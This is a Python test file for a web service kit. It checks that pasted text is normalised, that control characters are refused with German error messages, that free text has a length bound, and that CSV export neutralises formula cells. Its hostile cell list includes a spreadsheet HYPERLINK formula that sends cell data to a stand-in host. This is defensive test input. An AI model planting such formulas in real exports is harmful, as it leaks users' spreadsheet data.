"""#19: one rule for free text. A paste's soft line break is a newline, NUL or ESC is a German field error, a
text without its own bound is bounded; CSV cells never start a formula; stored control characters never reach an
output edge."""

import csv
import io
from decimal import Decimal

import pytest
from flask import Flask
from marshmallow import ValidationError, fields, validate
from werkzeug.datastructures import MultiDict
from wtforms import FieldList, PasswordField, StringField, TextAreaField

from servicekit import csvsafe, text
from servicekit.web.problems import _translate
from servicekit.web.schemas import Schema
from servicekit.web.ui import BaseForm


def test_paste_characters_become_newlines_and_the_rest_is_refused():
    assert text.clean("Zeile 1\x0bZeile 2\r\nZeile 3\rZeile 4\x0cEnde\tTab") == \
        "Zeile 1\nZeile 2\nZeile 3\nZeile 4\nEnde\tTab"
    for bad in ("\x00", "\x1b[31m", "\x07", "\x7f", "\ud800", "\uffff"):
        with pytest.raises(text.TextRefused) as refused:
            text.clean("Eva" + bad)
        assert refused.value.position == 4
        assert "Steuerzeichen" in refused.value.message("de") and "Zeichen 4" in refused.value.message("de")
    assert text.for_output("a\x00b\x0bc\x1bd\r\n") == "ab\ncd\n"


class _Nested(Schema):
    label = fields.String()


class _In(Schema):
    name = fields.String(validate=validate.Length(max=200))
    intro = fields.String()
    tags = fields.List(fields.String())
    extra = fields.Dict(keys=fields.String(), values=fields.String())
    parts = fields.List(fields.Nested(_Nested))
    count = fields.Integer()


def test_a_kit_schema_normalises_and_refuses_with_field_errors():
    loaded = _In().load({"name": "Eva\r\nMüller", "intro": "a\x0bb", "tags": ["x\x0cy"], "count": 3})
    assert loaded == {"name": "Eva\nMüller", "intro": "a\nb", "tags": ["x\ny"], "count": 3}
    with pytest.raises(ValidationError) as refused:
        _In().load({"name": "Eva\x00", "tags": ["ok", "\x1b"], "extra": {"k": "\x01"},
                    "parts": [{"label": "\x02"}]})
    errors = refused.value.messages
    assert set(errors) == {"name", "tags", "extra", "parts"}
    assert errors["tags"] == {1: [text.REFUSED_EN.format(1)]}
    assert _translate(errors["name"]) == ["Enthält ein unsichtbares Steuerzeichen, das nicht gespeichert werden "
                                          "kann (Zeichen 4). Bitte entfernen Sie es."]


def test_a_text_without_its_own_bound_is_bounded():
    with pytest.raises(ValidationError) as refused:
        _In().load({"intro": "x" * (text.DEFAULT_MAX_LENGTH + 1)})
    assert _translate(refused.value.messages["intro"]) == [f"Länger als die Höchstlänge {text.DEFAULT_MAX_LENGTH}."]
    assert _In().load({"intro": "x" * text.DEFAULT_MAX_LENGTH})


class _Form(BaseForm):
    title = StringField("Titel")
    intro = TextAreaField("Einleitung")
    password = PasswordField("Passwort")
    names = FieldList(StringField("Name"), min_entries=1)


def _app() -> Flask:
    app = Flask(__name__)
    app.config.update(SECRET_KEY="x", WTF_CSRF_ENABLED=False)
    return app


def test_a_form_normalises_a_paste_and_shows_a_german_error_for_a_control_character():
    with _app().test_request_context("/"):
        form = _Form(MultiDict({"title": "Sommerfest", "intro": "Hallo\x0bWelt\r\n", "password": "p\x01w",
                                "names-0": "Eva"}))
        assert form.validate(), form.errors
        assert form.intro.data == "Hallo\nWelt\n" and form.password.data == "p\x01w"
        form = _Form(MultiDict({"title": "Sommer\x1bfest", "intro": "ok", "names-0": "E\x00va"}))
        assert not form.validate()
        assert form.errors["title"] == ["Enthält ein unsichtbares Steuerzeichen, das nicht gespeichert werden "
                                        "kann (Zeichen 7). Bitte entfernen Sie es."]
        assert form.names.entries[0].errors and 'value="Sommerfest"' in form.title()
        form = _Form(MultiDict({"title": "x" * 2001}))
        assert not form.validate() and form.errors["title"] == ["Höchstens 2.000 Zeichen."]


def test_csv_cells_never_start_a_formula_and_our_figures_stay_numbers():
    out = io.StringIO()
    w = csvsafe.writer(out)
    hostile = ['=HYPERLINK("http://x.example/?"&A2,"Klick")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR",
               "-12,50", "Eva\x00Müller"]
    w.writerow([*hostile, csvsafe.Number("-12,50"), csvsafe.Number("-3,5 %"), csvsafe.Number("=1"), Decimal("-1"),
                7, None])
    cells = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert cells[:5] == ["'" + h for h in hostile[:5]] and cells[5] == "'\nCR"  # a CR is a newline in a cell
    assert cells[6] == "'-12,50" and cells[7] == "EvaMüller"  # a person's text is never a number of ours
    assert cells[8:] == ["-12,50", "-3,5 %", "'=1", "-1", "7", ""]
    assert [csvsafe.unquote(c) for c in cells[:3]] == hostile[:3] and csvsafe.unquote("'Eva") == "'Eva"
